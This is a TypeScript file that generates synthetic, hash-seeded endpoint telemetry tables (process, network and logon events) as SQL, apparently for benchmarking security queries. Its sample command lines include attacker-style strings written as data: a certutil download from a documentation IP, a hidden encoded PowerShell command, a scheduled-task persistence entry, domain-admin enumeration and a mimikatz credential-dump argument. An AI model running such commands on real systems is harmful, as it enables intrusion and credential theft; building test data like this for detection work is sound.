/**
 * Telemetry in store form out of nothing but numbers: every value is drawn from a list by a hash of the row, so any number
 * of rows can be made again. Lists are of the size fleets have, and skewed as fleets are: few programs make most events.
 */
const day = 864_000_000_000n;
/** 2026-01-01T00:00:00Z in ticks; the rows cover the thirty days before it. */
export const until = 639_028_224_000_000_000n;

const draw = (salt: number): string => `(hash(i * 31 + ${salt}) >> 1)`;
const uniform = (n: number, salt: number): string => `(${draw(salt)} % ${n})`;
/** Small numbers are drawn far more often than large ones. */
const skewed = (n: number, salt: number): string => `CAST(floor(${n} * pow((${draw(salt)} % 1000000) / 1000000.0, 3)) AS BIGINT)`;
const oneOf = (values: readonly string[], index: string): string =>
  `[${values.map((value) => `'${value}'`).join(', ')}][1 + (${index})::BIGINT]`;

const programs = [
  'svchost.exe',
  'chrome.exe',
  'msedge.exe',
  'powershell.exe',
  'cmd.exe',
  'conhost.exe',
  'rundll32.exe',
  'wmiprvse.exe',
  'teams.exe',
  'outlook.exe',
  'explorer.exe',
  'msbuild.exe',
  'regsvr32.exe',
  'mshta.exe',
  'certutil.exe',
  'bitsadmin.exe',
  'whoami.exe',
  'net.exe',
  'schtasks.exe',
  'psexesvc.exe',
];
const lines = [
  'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
  '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
  'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1',
  'powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'cmd.exe /c whoami /all > C:\\Users\\Public\\out.txt',
  'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL',
  'certutil.exe -urlcache -split -f http://198.51.100.7/a.bin C:\\Users\\Public\\a.bin',
  'net.exe group "Domain Admins" /domain',
  'schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute',
  'C:\\Windows\\System32\\wbem\\wmiprvse.exe -secured -Embedding',
];

const device = (salt: number): string => skewed(2000, salt);
const deviceColumns = (salt: number): string =>
  `md5('device' || ${device(salt)}) || substr(md5('d' || ${device(salt)}), 1, 8) AS "DeviceId", 'host-' || lpad(CAST(${device(salt)} AS VARCHAR), 4, '0') || '.contoso.example' AS "DeviceName"`;
const time = `${until}::BIGINT - ${30n * day} + CAST(i AS BIGINT) * (${30n * day} // $1) + CAST(${uniform(9_999_999, 1)} AS BIGINT) % 10000000 AS "Timestamp"`;

export interface BenchTable {
  /** Of each hundred rows, how many are of this table. */
  readonly share: number;
  readonly columns: readonly (readonly [name: string, type: 'string' | 'long' | 'int' | 'datetime' | 'bool' | 'dynamic'])[];
  /** The rows 0 .. $1-1. */
  readonly sql: string;
}

export const telemetry: Readonly<Record<string, BenchTable>> = {
  DeviceProcessEvents: {
    share: 40,
    columns: [
      ['Timestamp', 'datetime'],
      ['DeviceId', 'string'],
      ['DeviceName', 'string'],
      ['ActionType', 'string'],
      ['FileName', 'string'],
      ['SHA1', 'string'],
      ['ProcessId', 'long'],
      ['ProcessCommandLine', 'string'],
      ['AccountName', 'string'],
      ['InitiatingProcessId', 'long'],
      ['InitiatingProcessFileName', 'string'],
      ['ReportId', 'long'],
      ['AdditionalFields', 'dynamic'],
    ],
    sql: `SELECT ${time}, ${deviceColumns(2)}, 'ProcessCreated' AS "ActionType", ${oneOf(programs, skewed(programs.length, 3))} AS "FileName",
      md5('file' || ${skewed(50_000, 4)}) || substr(md5('f' || ${skewed(50_000, 4)}), 1, 8) AS "SHA1", CAST(${uniform(300, 5)} AS BIGINT) AS "ProcessId",
      ${oneOf(lines, skewed(lines.length, 6))} || ' ' || ${skewed(100_000, 7)} || CASE WHEN ${uniform(20_000, 8)} = 0 THEN ' sekurlsa::logonpasswords' ELSE '' END AS "ProcessCommandLine",
      'user' || ${skewed(3000, 9)} AS "AccountName", CAST(${uniform(300, 10)} AS BIGINT) AS "InitiatingProcessId",
      ${oneOf(programs, skewed(programs.length, 11))} AS "InitiatingProcessFileName", CAST(i AS BIGINT) AS "ReportId",
      CAST('{"TokenElevation":"' || ${oneOf(['Default', 'Full', 'Limited'], uniform(3, 12))} || '","SessionId":' || ${uniform(9, 13)} || ',"Tags":["t' || ${uniform(40, 14)} || '","u' || ${uniform(7, 15)} || '"]}' AS JSON) AS "AdditionalFields"
      FROM range($1::BIGINT) t(i)`,
  },
  DeviceNetworkEvents: {
    share: 45,
    columns: [
      ['Timestamp', 'datetime'],
      ['DeviceId', 'string'],
      ['DeviceName', 'string'],
      ['ActionType', 'string'],
      ['RemoteIP', 'string'],
      ['RemotePort', 'int'],
      ['RemoteUrl', 'string'],
      ['InitiatingProcessId', 'long'],
      ['InitiatingProcessFileName', 'string'],
      ['ReportId', 'long'],
    ],
    sql: `SELECT ${time}, ${deviceColumns(2)}, ${oneOf(['ConnectionSuccess', 'ConnectionFailed', 'InboundConnectionAccepted'], skewed(3, 3))} AS "ActionType",
      '203.0.' || ${skewed(256, 4)} || '.' || ${uniform(256, 5)} AS "RemoteIP", ${oneOf(['443', '80', '445', '3389', '8443', '53'], skewed(6, 6))}::INTEGER AS "RemotePort",
      'https://' || ${oneOf(['login', 'cdn', 'api', 'update', 'files'], skewed(5, 7))} || ${skewed(400, 8)} || '.example/' || ${skewed(5000, 9)} AS "RemoteUrl",
      CAST(${uniform(300, 10)} AS BIGINT) AS "InitiatingProcessId", ${oneOf(programs, skewed(programs.length, 11))} AS "InitiatingProcessFileName", CAST(i AS BIGINT) AS "ReportId"
      FROM range($1::BIGINT) t(i)`,
  },
  DeviceLogonEvents: {
    share: 15,
    columns: [
      ['Timestamp', 'datetime'],
      ['DeviceId', 'string'],
      ['DeviceName', 'string'],
      ['ActionType', 'string'],
      ['AccountName', 'string'],
      ['LogonType', 'string'],
      ['RemoteIP', 'string'],
      ['IsLocalAdmin', 'bool'],
      ['ReportId', 'long'],
    ],
    sql: `SELECT ${time}, ${deviceColumns(2)}, ${oneOf(['LogonSuccess', 'LogonFailed', 'LogonAttempted'], skewed(3, 3))} AS "ActionType", 'user' || ${skewed(3000, 4)} AS "AccountName",
      ${oneOf(['Interactive', 'Network', 'RemoteInteractive', 'Batch', 'Service'], skewed(5, 5))} AS "LogonType", '10.' || ${uniform(4, 6)} || '.' || ${skewed(256, 7)} || '.' || ${uniform(256, 8)} AS "RemoteIP",
      ${uniform(10, 9)} = 0 AS "IsLocalAdmin", CAST(i AS BIGINT) AS "ReportId"
      FROM range($1::BIGINT) t(i)`,
  },
};
